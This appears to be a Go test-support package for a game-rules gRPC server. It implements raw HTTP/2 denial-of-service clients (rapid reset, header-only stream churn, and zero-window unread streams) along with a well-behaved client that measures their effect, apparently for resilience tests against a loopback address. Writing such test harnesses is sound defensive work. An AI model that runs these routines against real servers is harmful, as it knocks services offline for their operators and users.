// Package h2attack holds the raw HTTP/2 clients of issue 19's attacks on
// the gRPC port (answers never read, header-only churn, rapid reset) and a
// polite client to measure their effect, for the server's tests and for
// bench/attack. Everything runs against a loopback address, for a bounded
// time.
package h2attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/status"

	gamerulesv1 "github.com/gamerules/gamerules/gen/go/gamerules/v1"

	gamerulesv1grpc "github.com/gamerules/gamerules/gen/go/gamerules/v1/gamerulesv1grpc"
)

// Conn is a raw HTTP/2 client connection to a gRPC server.
type Conn struct {
	c    net.Conn
	fr   *http2.Framer
	mu   sync.Mutex // guards writes
	hbuf bytes.Buffer
	enc  *hpack.Encoder
	next uint32

	goAway atomic.Pointer[GoAway] // the server's GOAWAY, once read
}

// GoAway is what a GOAWAY frame from the server said.
type GoAway struct {
	LastStreamID uint32
	Code         http2.ErrCode
	Debug        string
}

// GoAway returns the GOAWAY the server sent, or nil if ReadLoop has read
// none.
func (h *Conn) GoAway() *GoAway { return h.goAway.Load() }

// Dial opens a connection and sends the preface and SETTINGS announcing
// window as the initial stream window (0: the client reads nothing).
func Dial(addr string, window uint32) (*Conn, error) {
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return nil, err
	}
	h := &Conn{c: c, fr: http2.NewFramer(c, c), next: 1}
	h.enc = hpack.NewEncoder(&h.hbuf)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		c.Close()
		return nil, err
	}
	if err := h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
		c.Close()
		return nil, err
	}
	return h, nil
}

// Close closes the connection.
func (h *Conn) Close() error { return h.c.Close() }

// Open starts a stream calling method (e.g. "/gamerules.v1.GameRules/LegalMoves"),
// with msg as its gRPC message, or headers only when msg is nil; it returns the stream id.
func (h *Conn) Open(method string, msg []byte) (uint32, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	id := h.next
	h.next += 2
	h.hbuf.Reset()
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", "x"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		_ = h.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.hbuf.Bytes(), EndHeaders: true}); err != nil {
		return id, err
	}
	if msg == nil {
		return id, nil
	}
	body := make([]byte, 5+len(msg))
	binary.BigEndian.PutUint32(body[1:], uint32(len(msg)))
	copy(body[5:], msg)
	for len(body) > 0 {
		n := min(len(body), 16384)
		if err := h.fr.WriteData(id, n == len(body), body[:n]); err != nil {
			return id, err
		}
		body = body[n:]
	}
	return id, nil
}

// Reset sends RST_STREAM(CANCEL) for stream id.
func (h *Conn) Reset(id uint32) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
}

// ReadLoop reads frames until the connection fails, acknowledging
// SETTINGS and PING, and calls ended (when not nil) with the id of each
// stream the server ends (END_STREAM or RST_STREAM). It never grants flow
// control window: answers stay unread. It returns when the server closes.
func (h *Conn) ReadLoop(ended func(id uint32)) error {
	for {
		f, err := h.fr.ReadFrame()
		if err != nil {
			return err
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				h.mu.Lock()
				_ = h.fr.WriteSettingsAck()
				h.mu.Unlock()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				h.mu.Lock()
				_ = h.fr.WritePing(true, f.Data)
				h.mu.Unlock()
			}
		case *http2.HeadersFrame:
			if f.StreamEnded() && ended != nil {
				ended(f.StreamID)
			}
		case *http2.DataFrame:
			if f.StreamEnded() && ended != nil {
				ended(f.StreamID)
			}
		case *http2.RSTStreamFrame:
			if ended != nil {
				ended(f.StreamID)
			}
		case *http2.GoAwayFrame:
			h.goAway.Store(&GoAway{LastStreamID: f.LastStreamID, Code: f.ErrCode, Debug: string(f.DebugData())})
		}
	}
}

// WaitClosed reports whether the server closes the connection within d,
// reading (and discarding) what it sends meanwhile.
func (h *Conn) WaitClosed(d time.Duration) bool {
	_ = h.c.SetReadDeadline(time.Now().Add(d))
	_, err := io.Copy(io.Discard, h.c)
	ne, ok := err.(net.Error)
	return !(ok && ne.Timeout())
}

// Stats counts an attack's work.
type Stats struct {
	Streams atomic.Int64 // streams opened
	Conns   atomic.Int64 // connections opened
	Closed  atomic.Int64 // connections the server closed
	GoAways atomic.Int64 // of those, closed with a GOAWAY frame first
}

// Churn keeps n header-only streams open on one connection until ctx is
// done, opening a new one whenever the server ends one, and a new
// connection (with n streams) whenever the server closes it.
func Churn(ctx context.Context, addr string, n int, st *Stats) {
	for ctx.Err() == nil {
		h, err := Dial(addr, 65535)
		if err != nil {
			time.Sleep(10 * time.Millisecond)
			continue
		}
		st.Conns.Add(1)
		ended := make(chan struct{}, 1024)
		done := make(chan struct{})
		go func() {
			_ = h.ReadLoop(func(uint32) {
				select {
				case ended <- struct{}{}:
				default:
				}
			})
			close(done)
		}()
		open := func() bool {
			_, err := h.Open("/gamerules.v1.GameRules/NewGame", nil)
			st.Streams.Add(1)
			return err == nil
		}
		ok := true
		for i := 0; i < n && ok; i++ {
			ok = open()
		}
		for ok {
			select {
			case <-ctx.Done():
				ok = false
			case <-done:
				ok = false
			case <-ended:
				ok = open()
			}
		}
		h.Close()
		<-done
		if ctx.Err() == nil {
			st.Closed.Add(1)
			if h.GoAway() != nil {
				st.GoAways.Add(1)
			}
		}
	}
}

// RapidReset sends HEADERS then RST_STREAM pairs as fast as it can on one
// connection until ctx is done, reconnecting whenever the server closes it.
func RapidReset(ctx context.Context, addr string, msg []byte, st *Stats) {
	for ctx.Err() == nil {
		h, err := Dial(addr, 65535)
		if err != nil {
			time.Sleep(10 * time.Millisecond)
			continue
		}
		st.Conns.Add(1)
		done := make(chan struct{})
		go func() { _ = h.ReadLoop(nil); close(done) }()
		for ctx.Err() == nil {
			id, err := h.Open("/gamerules.v1.GameRules/LegalMoves", nil)
			if err == nil {
				err = h.Reset(id)
			}
			st.Streams.Add(1)
			if err != nil {
				break
			}
			select {
			case <-done:
				err = io.EOF
			default:
			}
			if err != nil {
				break
			}
		}
		h.Close()
		<-done
		if ctx.Err() == nil {
			st.Closed.Add(1)
			if h.GoAway() != nil {
				st.GoAways.Add(1)
			}
		}
	}
}

// Unread opens conns connections announcing a window of 0 and sends
// streams calls of method with msg on each, reading nothing; it returns
// the connections (still open, unless the server closed them).
func Unread(addr string, conns, streams int, method string, msg []byte) ([]*Conn, error) {
	var out []*Conn
	for i := 0; i < conns; i++ {
		h, err := Dial(addr, 0)
		if err != nil {
			return out, err
		}
		out = append(out, h)
		for j := 0; j < streams; j++ {
			if _, err := h.Open(method, msg); err != nil {
				break
			}
		}
	}
	return out, nil
}

// Polite is a well-behaved client's tally.
type Polite struct {
	OK, Failed atomic.Int64
	mu         sync.Mutex
	codes      map[codes.Code]int
}

// Codes are the failed calls' gRPC codes and counts.
func (p *Polite) Codes() map[codes.Code]int {
	p.mu.Lock()
	defer p.mu.Unlock()
	out := map[codes.Code]int{}
	for k, v := range p.codes {
		out[k] = v
	}
	return out
}

// Rate is the share of calls that succeeded (1 when none were made).
func (p *Polite) Rate() float64 {
	ok, f := p.OK.Load(), p.Failed.Load()
	if ok+f == 0 {
		return 1
	}
	return float64(ok) / float64(ok+f)
}

// RunPolite makes calls, workers at a time on one connection of its own,
// each a small LegalMoves with a 2 s deadline, until ctx is done, pausing
// pause between a worker's calls.
func RunPolite(ctx context.Context, addr string, workers int, pause time.Duration, p *Polite) error {
	conn, err := grpc.NewClient(addr, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		return err
	}
	defer conn.Close()
	client := gamerulesv1grpc.NewGameRulesClient(conn)
	var wg sync.WaitGroup
	for i := 0; i < workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				cctx, cancel := context.WithTimeout(ctx, 2*time.Second)
				_, err := client.LegalMoves(cctx, &gamerulesv1.LegalMovesRequest{Game: "backgammon", State: &gamerulesv1.GameState{Text: "4HPwATDgc/ABMA:MIEFAAAAAAAE"}})
				cancel()
				if ctx.Err() != nil {
					return
				}
				if err != nil {
					p.Failed.Add(1)
					p.mu.Lock()
					if p.codes == nil {
						p.codes = map[codes.Code]int{}
					}
					p.codes[status.Code(err)]++
					p.mu.Unlock()
				} else {
					p.OK.Add(1)
				}
				if pause > 0 {
					time.Sleep(pause)
				}
			}
		}()
	}
	wg.Wait()
	return nil
}

// LargestBoard is the Gravity Trap custom board of 64 stations and 256
// lines whose LegalMoves answer with results is the largest the API gives.
func LargestBoard() *gamerulesv1.GravityTrapBoard {
	board := &gamerulesv1.GravityTrapBoard{}
	for i := 0; i < 64; i++ {
		board.Stations = append(board.Stations, &gamerulesv1.GravityTrapStation{Id: uint32(i), X: -2.598076211353316 + float64(i)/7, Y: 1.4999999999999996 - float64(i)/9})
		board.Opposite = append(board.Opposite, uint32(i^1))
	}
	for l := 0; l < 256; l++ {
		skip1, skip2 := l%64, (l/64*17+l)%64
		var line []uint32
		for s := 0; s < 64; s++ {
			if s != skip1 && (l < 64 || s != skip2) {
				line = append(line, uint32(s))
			}
		}
		board.Lines = append(board.Lines, &gamerulesv1.GravityTrapLine{Stations: line})
	}
	return board
}
